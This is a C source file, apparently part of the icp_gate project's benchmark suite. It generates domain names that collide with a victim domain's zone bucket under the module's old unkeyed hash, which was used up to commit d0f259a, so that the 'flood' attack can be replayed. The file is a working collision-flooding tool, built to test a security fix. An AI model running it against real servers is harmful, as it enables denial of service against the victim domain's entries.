
/*
 * Copyright (C) icp_gate authors
 *
 * The attack bench/run.py --only flood replays: domains that fall into the
 * zone bucket of a victim's domain under the bucket hash icp_gate had up to
 * d0f259a, which had no key, so that anyone could compute it offline.
 *
 *     colliders ZONE_BYTES COUNT VICTIM_DOMAIN
 *
 * prints COUNT names "flXXXXXXXX.cn", one a line, each its own registrable
 * domain; the victim's bucket and the names tried go to stderr.
 */


#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>


static uint32_t unkeyed_hash(const unsigned char *p, size_t len);


int
main(int argc, char **argv)
{
    size_t          size, buckets, found, count;
    uint32_t        mask, target;
    uint64_t        tried;
    unsigned char   name[] = "fl00000000.cn";
    int             i;

    static const char  hex[] = "0123456789abcdef";

    if (argc != 4) {
        fprintf(stderr, "usage: colliders ZONE_BYTES COUNT VICTIM_DOMAIN\n");
        return 2;
    }

    size = strtoull(argv[1], NULL, 10);
    count = strtoull(argv[2], NULL, 10);

    /* the buckets as the zone counted them: a power of two, 128 bytes each */

    for (buckets = 64; buckets * 2 * 128 <= size; buckets <<= 1) {
        /* void */
    }

    mask = (uint32_t) (buckets - 1);
    target = unkeyed_hash((unsigned char *) argv[3], strlen(argv[3])) & mask;

    for (tried = 0, found = 0; found < count; tried++) {

        for (i = 0; i < 8; i++) {
            name[2 + i] = hex[(tried >> (28 - 4 * i)) & 0xf];
        }

        if ((unkeyed_hash(name, sizeof(name) - 1) & mask) == target) {
            puts((char *) name);
            found++;
        }
    }

    fprintf(stderr, "colliders: bucket %u of %zu, %zu names of %llu tried\n",
            (unsigned) target, buckets, found, (unsigned long long) tried);

    return 0;
}


/* ngx_icp_gate_hash() up to d0f259a: eight bytes a step, its constants only */

static uint32_t
unkeyed_hash(const unsigned char *p, size_t len)
{
    size_t    n;
    uint64_t  h, w;

    h = 0x9e3779b97f4a7c15ULL ^ len;

    for (n = len; n >= 8; n -= 8, p += 8) {
        memcpy(&w, p, 8);
        h = (h ^ w) * 0xff51afd7ed558ccdULL;
        h ^= h >> 32;
    }

    if (n) {
        if (len >= 8) {
            memcpy(&w, p + n - 8, 8);

        } else {
            for (w = 0; n; n--) {
                w = (w << 8) | p[n - 1];
            }
        }

        h = (h ^ w) * 0xff51afd7ed558ccdULL;
        h ^= h >> 32;
    }

    h *= 0xc4ceb9fe1a85ec53ULL;

    return (uint32_t) (h >> 32);
}
